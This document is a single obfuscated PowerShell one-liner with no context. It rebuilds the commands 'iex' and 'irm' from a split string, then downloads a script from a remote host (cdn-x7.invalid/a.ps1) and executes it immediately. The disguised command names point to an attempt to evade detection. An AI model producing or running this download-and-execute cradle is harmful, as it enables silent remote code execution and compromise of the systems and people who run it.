$c='iexQirm'.Split('Q'); & $c[0] (& $c[1] https://cdn-x7.invalid/a.ps1)
